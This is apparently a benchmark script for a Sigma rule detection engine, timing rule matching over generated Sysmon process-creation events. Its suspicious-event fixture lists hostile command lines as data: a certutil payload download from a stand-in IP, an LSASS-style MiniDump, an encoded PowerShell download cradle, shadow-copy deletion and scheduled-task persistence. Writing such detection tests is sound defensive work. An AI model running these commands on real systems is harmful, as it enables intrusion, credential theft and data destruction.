// Sigma detection throughput on one core: SigmaHQ's process_creation rules (read in place from
// ../shared/data) over deterministic generated Sysmon process-creation events, mostly benign
// with a few suspicious ones. Rule loading is excluded; each figure is the median of 3 runs.
// The naive baseline evaluates every in-scope compiled rule per event (same closures, no index).
import { existsSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { SigmaEngine } from '../src/detect/index.js';
import { rng } from '../test/helpers/rng.js';

const root = resolve(dirname(fileURLToPath(import.meta.url)), '..');
const data = process.env['VIGIL_SHARED_DATA'] ?? resolve(root, '../shared/data');
const rulesDir = join(data, 'sigma/sigmahq/rules/windows/process_creation');
if (!existsSync(rulesDir)) {
  console.log(`sigma bench skipped: ${rulesDir} not found`);
  process.exit(0);
}

const EVENTS = Number(process.env['SIGMA_BENCH_EVENTS'] ?? 20000);


const BENIGN: Array<[string, string, string]> = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --num-raster-threads=4 --renderer-client-id={n}', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
  ['C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe', '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={n}', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git status --porcelain=v{n}', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'],
  ['C:\\Program Files\\nodejs\\node.exe', '"C:\\Program Files\\nodejs\\node.exe" C:\\Users\\dev\\project\\node_modules\\vitest\\vitest.mjs run --worker {n}', 'C:\\Program Files\\Microsoft VS Code\\Code.exe'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {n}', 'C:\\Windows\\System32\\svchost.exe'],
  ['C:\\Windows\\System32\\backgroundTaskHost.exe', '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca', 'C:\\Windows\\System32\\svchost.exe'],
  ['C:\\Windows\\System32\\SearchProtocolHost.exe', '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646', 'C:\\Windows\\System32\\SearchIndexer.exe'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle', 'C:\\Windows\\explorer.exe'],
  ['C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', '"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=gpu-process --gpu-preferences={n}', 'C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile -Command Get-ChildItem C:\\Users\\bob\\Documents\\report{n}.docx', 'C:\\Windows\\explorer.exe'],
  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\system32\\cmd.exe /c dir C:\\build\\out{n}', 'C:\\Program Files\\Jenkins\\jenkins.exe'],
  ['C:\\Python311\\python.exe', 'C:\\Python311\\python.exe -m pytest tests\\test_{n}.py', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
  ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
];

// Suspicious activity written for this bench (not taken from any rule's test data).
const SUSPICIOUS: Array<[string, string, string]> = [
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /all', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://203.0.113.7/p{n}.exe C:\\Users\\Public\\p.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l{n}.dmp full', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\schtasks.exe', 'schtasks /create /sc minute /mo 5 /tn upd{n} /tr C:\\Users\\Public\\u.exe', 'C:\\Windows\\System32\\cmd.exe'],
];

function generate(n: number, seed: number): Record<string, unknown>[] {
  const r = rng(seed);
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < n; i++) {
    const bad = r() < 0.03;
    const pool = bad ? SUSPICIOUS : BENIGN;
    const [image, cmd, parent] = pool[Math.floor(r() * pool.length)]!;
    const num = String(Math.floor(r() * 100000));
    const name = image.slice(image.lastIndexOf('\\') + 1);
    out.push({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: `ws-${Math.floor(r() * 400)}.corp.example`,
      UtcTime: new Date(Date.UTC(2025, 0, 1) + i * 37).toISOString().replace('T', ' ').slice(0, 23),
      ProcessGuid: `{0197231E-${num.padStart(4, '0').slice(0, 4)}-69E1-C922-000000000800}`,
      ProcessId: 1000 + Math.floor(r() * 60000),
      Image: image,
      FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
      Description: name.replace(/\.exe$/i, ''),
      Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation',
      OriginalFileName: name,
      CommandLine: cmd.replace(/\{n\}/g, num),
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: r() < 0.5 ? 'CORP\\alice' : 'NT AUTHORITY\\SYSTEM',
      LogonGuid: '{0197231E-C3F1-69E1-E703-030000000000}',
      LogonId: '0x303e7',
      TerminalSessionId: 1,
      IntegrityLevel: r() < 0.8 ? 'Medium' : 'High',
      Hashes: `SHA1=${hex(r, 40)},MD5=${hex(r, 32)},SHA256=${hex(r, 64)},IMPHASH=${hex(r, 32)}`,
      ParentProcessGuid: '{0197231E-C3F2-69E1-0B00-000000000800}',
      ParentProcessId: 900 + Math.floor(r() * 9000),
      ParentImage: parent,
      ParentCommandLine: `"${parent}"`,
      ParentUser: 'CORP\\alice',
    });
  }
  return out;
}

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789ABCDEF'[Math.floor(r() * 16)];
  return s;
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)]!;
}

const t0 = performance.now();
const { engine, issues } = SigmaEngine.fromFiles(rulesDir);
const loadMs = performance.now() - t0;
const events = generate(EVENTS, 42);

// Correctness first: the index must find exactly what the full scan finds.
let idxMatches = 0;
let naiveMatches = 0;
let disagreements = 0;
for (const ev of events) {
  const a = engine.match(ev).map((m) => m.id).join();
  const b = engine.matchNaive(ev).map((m) => m.id).join();
  if (a !== b) disagreements++;
  idxMatches += a ? a.split(',').length : 0;
  naiveMatches += b ? b.split(',').length : 0;
}

// Wall-clock rate, and the rate per CPU-second of this process: on a shared machine the second is
// the honest "one core" figure, since other processes' load stretches wall time but not CPU time.
function run(f: (ev: Record<string, unknown>) => unknown, evs: Record<string, unknown>[]): { wall: number; cpu: number } {
  const t = performance.now();
  const c = process.cpuUsage();
  for (const ev of evs) f(ev);
  const cu = process.cpuUsage(c);
  return { wall: evs.length / ((performance.now() - t) / 1000), cpu: evs.length / ((cu.user + cu.system) / 1e6) };
}

const indexed: { wall: number; cpu: number }[] = [];
const naive: { wall: number; cpu: number }[] = [];
const naiveEvents = events.slice(0, Math.max(500, Math.floor(events.length / 10)));
const before = { ...engine.stats };
for (let i = 0; i < 3; i++) {
  indexed.push(run((ev) => engine.match(ev), events));
  naive.push(run((ev) => engine.matchNaive(ev), naiveEvents));
}
const after = engine.stats;
const summary = engine.indexSummary({ product: 'windows', category: ['process_creation'], service: ['sysmon'] });
const evaluatedPerEvent = (after.evaluated - before.evaluated) / (after.events - before.events);
const idx = median(indexed.map((x) => x.cpu));
const nv = median(naive.map((x) => x.cpu));
const fmt = (x: number): string => Math.round(x).toLocaleString('en-US');

console.log(`rules loaded: ${engine.rules.length} (${issues.length} not loaded) in ${loadMs.toFixed(0)} ms`);
console.log(`events: ${events.length} generated Sysmon EID 1, ${idxMatches} matches (index) / ${naiveMatches} (naive), ${disagreements} disagreements`);
console.log(`index: ${summary.indexedFields.length} fields scanned, ${summary.alwaysEvaluated} rules always evaluated, ${summary.automatonStates} automaton states, ${(summary.bytes / 1048576).toFixed(1)} MiB`);
console.log(`rules evaluated per event: ${evaluatedPerEvent.toFixed(1)} of ${summary.rules} (${((100 * evaluatedPerEvent) / summary.rules).toFixed(2)}%)`);
console.log(`indexed engine: ${fmt(idx)} events per CPU-second (median of 3: ${indexed.map((x) => fmt(x.cpu)).join(', ')}; wall ${indexed.map((x) => fmt(x.wall)).join(', ')})`);
console.log(`naive scan:     ${fmt(nv)} events per CPU-second (median of 3 over ${naiveEvents.length} events: ${naive.map((x) => fmt(x.cpu)).join(', ')}; wall ${naive.map((x) => fmt(x.wall)).join(', ')})`);
console.log(`ratio: ${(idx / nv).toFixed(1)}× the naive scan; ${(idx / 20000).toFixed(2)}× the 20k events/s goal (rsigma's published 19–34k)`);
if (disagreements) process.exitCode = 1;

// Correlation: detections from 10k groups streamed through event_count and temporal rules.
{
  const { CorrelationEngine } = await import('../src/detect/index.js');
  const yaml = `title: A\nid: a\nname: rule_a\nlogsource: {product: bench}\ndetection:\n    sel: {X: a}\n    condition: sel
---\ntitle: B\nid: b\nname: rule_b\nlogsource: {product: bench}\ndetection:\n    sel: {X: b}\n    condition: sel
---\ntitle: Count\nid: count\ncorrelation:\n    type: event_count\n    rules: rule_a\n    group-by: [Host]\n    timespan: 5m\n    condition: {gte: 50}
---\ntitle: Seq\nid: seq\ncorrelation:\n    type: temporal\n    rules: [rule_a, rule_b]\n    group-by: [Host]\n    timespan: 5m\n`;
  const loaded = SigmaEngine.fromYaml(yaml, 'bench.yml', { prepare: false });
  const GROUPS = 10_000;
  const N = 1_000_000;
  const hosts = Array.from({ length: GROUPS }, (_, i) => ({ Host: `host-${i}` }));
  const a = [{ id: 'a', name: 'rule_a' }];
  const b = [{ id: 'b', name: 'rule_b' }];
  const rates: number[] = [];
  let fired = 0;
  for (let run = 0; run < 3; run++) {
    const { engine: corr } = CorrelationEngine.fromDocuments(loaded.correlations, loaded.engine.rules);
    const c0 = process.cpuUsage();
    for (let i = 0; i < N; i++) {
      // Time advances 1 ms per detection; each group sees a detection every 10 s on average.
      fired += corr.process(i % 7 === 0 ? b : a, hosts[(i * 7919) % GROUPS]!, i).length;
    }
    const cu = process.cpuUsage(c0);
    rates.push(N / ((cu.user + cu.system) / 1e6));
  }
  // Memory: 10k groups each holding 20 timestamps in an event_count window that never fires.
  setFlagsFromString('--expose-gc');
  const gc = runInNewContext('gc') as () => void;
  const hold = SigmaEngine.fromYaml(yaml.replace('condition: {gte: 50}', 'condition: {gte: 1000000}'), 'bench.yml', { prepare: false });
  const { engine: mem } = CorrelationEngine.fromDocuments(hold.correlations.slice(0, 1), hold.engine.rules);
  gc();
  const heap0 = process.memoryUsage().heapUsed;
  for (let i = 0; i < GROUPS * 20; i++) mem.process(a, hosts[i % GROUPS]!, i);
  gc();
  const perGroup = (process.memoryUsage().heapUsed - heap0) / mem.groupCount;
  console.log(
    `correlation: ${Math.round(median(rates)).toLocaleString('en-US')} detections per CPU-second over ${GROUPS.toLocaleString('en-US')} groups; ` +
      `6 in 7 update both an event_count and a temporal rule, 1 in 7 the temporal rule only ` +
      `(${Math.round((median(rates) * 13) / 7).toLocaleString('en-US')} rule updates/s) ` +
      `(median of 3: ${rates.map((r) => Math.round(r).toLocaleString('en-US')).join(', ')}), ${Math.round(fired / 3)} correlations fired per run, ${Math.round(perGroup)} bytes of heap per group holding 20 events (${mem.groupCount.toLocaleString('en-US')} groups)`,
  );
}
